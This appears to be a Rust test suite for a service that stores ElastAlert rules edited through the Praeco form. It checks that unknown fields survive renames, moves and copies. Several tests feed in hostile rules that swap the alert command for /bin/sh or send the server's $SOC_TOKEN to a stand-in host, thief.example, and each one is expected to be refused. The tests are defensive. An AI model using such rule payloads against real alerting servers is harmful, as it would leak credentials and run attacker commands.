//! What Praeco's form does not know stays, also when a rule is renamed, moved or duplicated: Praeco creates a new rule for that
//! and deletes the old one.

use crate::support::cli::Workspace;
use crate::support::served::Served;
use serde_json::{Value, json};
use sigmalert::yaml;

/// A rule with what the form does not know: observables, tags, our own block, a shared import, comments.
const STORED: &str = "\
# Reviewed by the SOC on Monday.
name: Logon failures
description: many
type: frequency
num_events: 5   # see the runbook
timeframe:
  minutes: 10
index: winlogbeat-*
timestamp_field: '@timestamp'
query_key: user.name
filter:
- query:
    query_string:
      query: 'event.code:4625'
- term: {host.name: dc1}
alert: [hivealerter, slack]
alert_subject: 'Failures of {0}'
alert_subject_args: [user.name]
hive_alert_config:
  title: Logon failures
  type: external
  source: winlogbeat
  description: d
  severity: 3
  tlp: 2
  pap: 1
  status: New
  follow: true
hive_observable_data_mapping:
- ip: source.ip
- other: user.name
slack_webhook_url: ['https://hooks.example.com/x']
slack_attach_kibana_discover_url: true
tags: [attack.t1110]
references: ['https://example.com/wiki']
falsepositives: [scanners]
include: [source.ip]
import: [BaseRule.config, shared.config]
sigmalert:
  rule: 6f1f4ff2
  mapping: winlogbeat
";

/// What Praeco 1.8's form makes of it (`config/config`): defaults come in, what the form does not know is gone.
fn form(name: &str, folder: &str) -> String {
    let import = format!("{}BaseRule.config", "../".repeat(folder.split('/').filter(|p| !p.is_empty()).count()));
    format!(
        "alert:\n  - \"hivealerter\"\n  - \"slack\"\nalert_subject: \"Failures of {{0}}\"\nalert_subject_args:\n  - \"user.name\"\ndescription: \"many\"\n\
         filter:\n  - query:\n      query_string:\n        query: \"event.code:4625\"\n\
         hive_alert_config:\n  title: \"Logon failures\"\n  type: \"external\"\n  source: \"winlogbeat\"\n  description: \"d\"\n  severity: 3\n  tlp: 2\n  status: \"New\"\n  follow: true\n\
         import: \"{import}\"\nindex: \"winlogbeat-*\"\nis_enabled: true\nmatch_enhancements: []\nname: \"{name}\"\nnum_events: 5\nquery_key:\n  - \"user.name\"\n\
         slack_emoji_override: \":ghost:\"\nslack_msg_color: \"danger\"\nslack_parse_override: \"none\"\nslack_timeout: 10\n\
         slack_title_link: \"http://localhost:8080/rules/Logon%20failures\"\nslack_username_override: \"elastalert\"\n\
         slack_webhook_url:\n  - \"https://hooks.example.com/x\"\nterms_size: 50\ntimeframe:\n  minutes: 10\ntimestamp_field: \"@timestamp\"\ntimestamp_type: \"iso\"\ntype: \"frequency\"\nuse_strftime_index: false\n"
    )
}

fn read(text: &str) -> Value {
    yaml::parse_all(text, &yaml::Limits::default()).unwrap_or_else(|e| panic!("{e}: {text}"))[0].to_value().into()
}

/// Everything that the form does not know, as it was.
fn kept(text: &str) {
    let (was, is) = (read(STORED), read(text));
    for key in [
        "hive_observable_data_mapping",
        "tags",
        "references",
        "falsepositives",
        "include",
        "sigmalert",
        "slack_attach_kibana_discover_url",
        "filter",
    ] {
        assert_eq!(is[key], was[key], "{key}: {text}");
    }
    assert_eq!(is["hive_alert_config"]["pap"], 1, "{text}");
    assert!(text.contains("# Reviewed by the SOC on Monday.\n") && text.contains("num_events: 5   # see the runbook\n"), "{text}");
}

fn served() -> (Workspace, Served) {
    let w = Workspace::new();
    w.write("rules/win/Logon failures.yaml", STORED);
    w.write("rules/win/other.yaml", STORED.replace("Logon failures\ndescription", "Other\ndescription").replace("4625", "4624"));
    let s = Served::start(&w, &[]);
    (w, s)
}

/// As Praeco creates a rule: it asks whether the name is free, and writes.
fn create(s: &Served, path: &str, text: &str) {
    assert_eq!(s.get(&format!("/api/rules/{path}")).status, 404, "{path}");
    let made = s.save(&format!("/api/rules/{path}"), text);
    assert_eq!((made.status, &made.json()["created"]), (200, &json!(true)), "{made:?}");
}

#[test]
fn a_rename_keeps_what_the_form_does_not_know() {
    let (w, s) = served();
    assert_eq!(s.get("/api/rules/win/Logon%20failures").status, 200);
    create(&s, "win/Failed%20logons", &form("Failed logons", "win"));
    assert_eq!(s.send("DELETE", "/api/rules/win/Logon%20failures", "", "").status, 200);
    assert!(!w.path("rules/win/Logon failures.yaml").exists());
    let text = w.read("rules/win/Failed logons.yaml");
    kept(&text);
    let rule = read(&text);
    assert_eq!((&rule["name"], &rule["import"]), (&json!("Failed logons"), &json!(["BaseRule.config", "shared.config"])));
    assert!(rule["sigmalert"].get("edited").is_none(), "{text}");
}

#[test]
fn a_move_keeps_it_and_imports_from_the_new_folder() {
    let (w, s) = served();
    assert_eq!(s.get("/api/rules/win/Logon%20failures").status, 200);
    create(&s, "a/b/Logon%20failures", &form("Logon failures", "a/b"));
    assert_eq!(s.send("DELETE", "/api/rules/win/Logon%20failures", "", "").status, 200);
    let text = w.read("rules/a/b/Logon failures.yaml");
    kept(&text);
    assert_eq!(read(&text)["import"], json!(["../../win/BaseRule.config", "../../win/shared.config"]));
}

#[test]
fn a_duplicate_keeps_it_also_after_a_restart() {
    // Nothing was read since the start: the only rule that is the same is the one.
    let (w, s) = served();
    create(&s, "win/Logon%20failures%20(1)", &form("Logon failures (1)", "win"));
    kept(&w.read("rules/win/Logon failures (1).yaml"));
    assert_eq!(w.read("rules/win/Logon failures.yaml"), STORED);
    // Two that are the same in the form, with other tags: the one that was read last.
    w.write(
        "rules/win/Logon failures (1).yaml",
        STORED.replace("Logon failures\ndescription", "Logon failures (1)\ndescription").replace("attack.t1110", "other"),
    );
    create(&s, "win/unknown", &form("unknown", "win"));
    assert!(!w.read("rules/win/unknown.yaml").contains("tags"), "it could be either");
    std::fs::remove_file(w.path("rules/win/unknown.yaml")).unwrap();
    assert_eq!(s.get("/api/rules/win/Logon%20failures%20(1)").status, 200);
    create(&s, "win/Logon%20failures%20(2)", &form("Logon failures (2)", "win"));
    assert!(w.read("rules/win/Logon failures (2).yaml").contains("tags: [other]"));
}

#[test]
fn a_rule_that_is_new_takes_nothing_from_others() {
    let (w, s) = served();
    assert_eq!(s.get("/api/rules/win/Logon%20failures").status, 200);
    for (name, from, to) in
        [("threshold", "num_events: 5", "num_events: 6"), ("query", "4625", "4626"), ("index", "winlogbeat-*", "logs-*")]
    {
        let text = form(name, "win").replace(from, to);
        create(&s, &format!("win/{name}"), &text);
        assert_eq!(w.read(&format!("rules/win/{name}.yaml")), text);
    }
    // What comes from elsewhere is stored as it was sent, though it is the same in the form.
    let foreign = STORED.replace("tags: [attack.t1110]\n", "").replace("name: Logon failures", "name: foreign");
    create(&s, "win/foreign", &foreign);
    assert_eq!(w.read("rules/win/foreign.yaml"), foreign);
}

#[test]
fn a_save_without_an_edit_changes_nothing_of_the_rule() {
    let (w, s) = served();
    let stored = STORED.replace("minutes: 10", "hours: 1\n  minutes: 30").replace("  follow: true\n", "")
        + "smtp_ssl: false\nemail: [a@example.com]\n";
    w.write("rules/win/Logon failures.yaml", &stored);
    let sent = form("Logon failures", "win").replace("minutes: 10", "hours: 1").replace("follow: true", "follow: false");
    assert_eq!(s.save("/api/rules/win/Logon%20failures", &sent).status, 200);
    let text = w.read("rules/win/Logon failures.yaml");
    let (was, is) = (read(&stored), read(&text));
    kept(&text);
    for (key, value) in was.as_object().unwrap() {
        // A list of one is a name to ElastAlert.
        let value = if key == "query_key" { &json!(["user.name"]) } else { value };
        assert_eq!(&is[key], value, "{key}: {text}");
    }
    // What the form shows and did not send was removed.
    let less = sent.replace("description: \"many\"\n", "").replace("alert_subject_args:\n  - \"user.name\"\n", "");
    assert_eq!(s.save("/api/rules/win/Logon%20failures", &less).status, 200);
    let is = read(&w.read("rules/win/Logon failures.yaml"));
    assert!(is.get("description").is_none() && is.get("alert_subject_args").is_none(), "{is}");
    // The link to Kibana is on, so that the form has a box for it; then it is unticked.
    w.write("rules/win/Logon failures.yaml", format!("{stored}generate_kibana_discover_url: true\n"));
    assert_eq!(s.save("/api/rules/win/Logon%20failures", &format!("{sent}generate_kibana_discover_url: true\n")).status, 200);
    assert!(read(&w.read("rules/win/Logon failures.yaml")).get("slack_attach_kibana_discover_url").is_none());
}

/// What the form knows of a rule that starts a program and sends a variable of the server's environment.
const STARTS: &str = "command:\n  - \"/usr/local/bin/page\"\n  - \"%(user.name)s\"\nhttp_post_url:\n  - \"http://soc.example.com/x\"\n";

/// A stored rule that starts a program, names a file and sends a variable of the server's environment, and a server with that
/// variable.
fn trusted() -> (Workspace, Served) {
    let w = Workspace::new();
    let own = "command: [/usr/local/bin/page, '%(user.name)s']\nhttp_post_url: ['http://soc.example.com/x']\n\
               http_post_headers: {Authorization: 'Bearer $SOC_TOKEN'}\nca_certs: /etc/soc/ca.pem\n";
    w.write("rules/win/Logon failures.yaml", STORED.replace("[hivealerter, slack]", "[hivealerter, slack, command, post]") + own);
    let s = Served::start_with(&w, &[], &[("SOC_TOKEN", "canary")]);
    assert_eq!(s.get("/api/rules/win/Logon%20failures").status, 200);
    (w, s)
}

fn trusted_form(name: &str, folder: &str) -> String {
    form(name, folder).replace("  - \"slack\"\n", "  - \"slack\"\n  - \"command\"\n  - \"post\"\n") + STARTS
}

#[test]
fn a_copy_keeps_the_program_the_file_and_the_variable_of_the_stored_rule() {
    let (w, s) = trusted();
    create(&s, "win/Logon%20failures%20(1)", &trusted_form("Logon failures (1)", "win"));
    let stored = read(&w.read("rules/win/Logon failures.yaml"));
    let copy = read(&w.read("rules/win/Logon failures (1).yaml"));
    for key in ["command", "http_post_url", "http_post_headers", "ca_certs", "tags", "filter", "alert"] {
        assert_eq!(copy[key], stored[key], "{key}");
    }
    // Renamed and moved, too.
    create(&s, "a/b/Logon%20failures", &trusted_form("Logon failures", "a/b"));
    assert_eq!(read(&w.read("rules/a/b/Logon failures.yaml"))["http_post_headers"], stored["http_post_headers"]);
}

#[test]
fn a_copy_gets_no_more_than_the_stored_rule_has() {
    let (w, s) = trusted();
    let good = trusted_form("copy", "win");
    for (bad, kind) in [
        (good.replace("/usr/local/bin/page", "/bin/sh"), "commandRefused"),
        (good.replace("%(user.name)s", "%(source.ip)s"), "commandRefused"),
        (good.clone() + "pipe_match_json: true\nhttp_post_headers:\n  a: \"$SOC_TOKEN\"\n", "commandRefused"),
        // Without the program it is a rule like any other, and takes nothing over.
        (form("copy", "win") + "http_post_headers:\n  a: \"$SOC_TOKEN\"\nhttp_post_url: \"http://thief.example\"\n", "secretRefused"),
    ] {
        let answer = s.save("/api/rules/win/copy", &bad);
        assert_eq!((answer.status, answer.json()["error"].as_str()), (403, Some(kind)), "{bad}: {answer:?}");
        assert!(!w.path("rules/win/copy.yaml").exists() && !answer.body.contains("canary"), "{answer:?}");
    }
    // To another host the variable does not go, neither from a copy nor from the rule itself.
    let elsewhere = good.replace("soc.example.com/x", "thief.example/x");
    let answer = s.save("/api/rules/win/copy", &elsewhere);
    assert_eq!(answer.status, 403, "{answer:?}");
    let own = trusted_form("Logon failures", "win").replace("soc.example.com/x", "thief.example/x");
    let answer = s.save("/api/rules/win/Logon%20failures", &own);
    assert_eq!((answer.status, answer.json()["error"].as_str()), (403, Some("secretRefused")), "{answer:?}");
    // Another import of the client's own may not lead it elsewhere.
    assert_eq!(s.save("/api/rules/win/lead.yaml", "http_post_proxy: http://thief.example\n").status, 200);
    let led = good.replace("../BaseRule.config", "lead.yaml");
    let answer = s.save("/api/rules/win/copy", &led);
    let copied = w.path("rules/win/copy.yaml").exists().then(|| read(&w.read("rules/win/copy.yaml")));
    assert!(answer.status == 403 || copied.is_some_and(|c| c["import"] == json!(["BaseRule.config", "shared.config"])), "{answer:?}");
}

#[test]
fn a_file_beside_a_rule_is_another_one_in_another_folder() {
    let w = Workspace::new();
    w.write("rules/win/Logon failures.yaml", STORED.to_owned() + "ca_certs: ca.pem\n");
    let s = Served::start(&w, &[]);
    assert_eq!(s.get("/api/rules/win/Logon%20failures").status, 200);
    let answer = s.save("/api/rules/mac/Logon%20failures", &form("Logon failures", "mac"));
    assert_eq!((answer.status, answer.json()["error"].as_str()), (403, Some("fileRefused")), "{answer:?}");
    create(&s, "win/Logon%20failures%20(1)", &form("Logon failures (1)", "win"));
}
